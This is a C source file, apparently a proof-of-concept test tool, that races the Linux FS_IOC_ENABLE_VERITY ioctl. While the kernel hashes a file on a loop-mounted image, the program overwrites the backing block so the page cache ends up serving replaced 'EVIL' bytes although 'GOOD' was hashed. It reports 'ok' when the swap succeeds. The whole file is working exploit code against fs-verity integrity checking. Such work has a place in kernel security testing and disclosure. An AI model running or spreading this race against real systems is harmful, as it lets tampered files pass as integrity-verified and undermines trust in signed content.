/* SPDX-License-Identifier: Apache-2.0 */
/*
 * swap IMAGE FILE GOOD EVIL: FILE lies on a loop mount of IMAGE and begins with the text GOOD
 * somewhere. While the kernel hashes FILE for FS_IOC_ENABLE_VERITY, the block in IMAGE that holds
 * GOOD gets EVIL (of the same length) instead, and is read into the page cache again: hashed was
 * GOOD, cached is EVIL. Prints `ok` if the kernel accepted FILE and still gives EVIL to readers.
 */
#include "tool.h"
#include <linux/fsverity.h>
#include <pthread.h>
#include <sys/ioctl.h>

static int enabled = -1;
static volatile int over;

static void *enable(void *file)
{
	struct fsverity_enable_arg arg = {
		.version = 1, .hash_algorithm = FS_VERITY_HASH_ALG_SHA256, .block_size = 4096
	};
	int fd = *(int *)file;

	enabled = ioctl(fd, FS_IOC_ENABLE_VERITY, &arg) < 0 ? errno : 0;
	over = 1;
	return NULL;
}

int main(int argc, char **argv)
{
	size_t size, length = argc == 5 ? strlen(argv[3]) : 0;
	int image, file, tries = 0;
	off_t in_image, in_file;
	char *bytes, *found, seen[256];
	pthread_t thread;

	if (argc != 5 || length != strlen(argv[4]) || length >= sizeof(seen))
		trouble("usage");
	bytes = contents(argv[2], &size);
	found = memmem(bytes, size, argv[3], length);
	if (!found)
		trouble("GOOD is not in FILE");
	in_file = found - bytes;
	image = open(argv[1], O_RDWR | O_CLOEXEC);
	file = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (image < 0 || file < 0 || fsync(file) < 0)
		trouble("open");
	bytes = contents(argv[1], &size);
	found = memmem(bytes, size, argv[3], length);
	if (!found)
		trouble("GOOD is not in IMAGE");
	in_image = found - bytes;
	/* So that the kernel has to read, in order, from the start. */
	posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED);
	if (pthread_create(&thread, NULL, enable, &file))
		trouble("pthread_create");
	/* The first block is hashed within microseconds of the start, the last one a second later. */
	usleep(100 * 1000);
	if (pwrite(image, argv[4], length, in_image) != (ssize_t)length)
		trouble("pwrite");
	do {
		posix_fadvise(file, in_file & ~4095l, 4096, POSIX_FADV_DONTNEED);
		if (pread(file, seen, length, in_file) != (ssize_t)length)
			trouble("pread");
		tries++;
	} while (!over && memcmp(seen, argv[4], length));
	pthread_join(thread, NULL);
	errno = enabled;
	if (enabled)
		return refused("FS_IOC_ENABLE_VERITY");
	if (pread(file, seen, length, in_file) != (ssize_t)length || memcmp(seen, argv[4], length)) {
		fprintf(stderr, "trouble: too late, after %d tries\n", tries);
		return 2;
	}
	return succeeded();
}
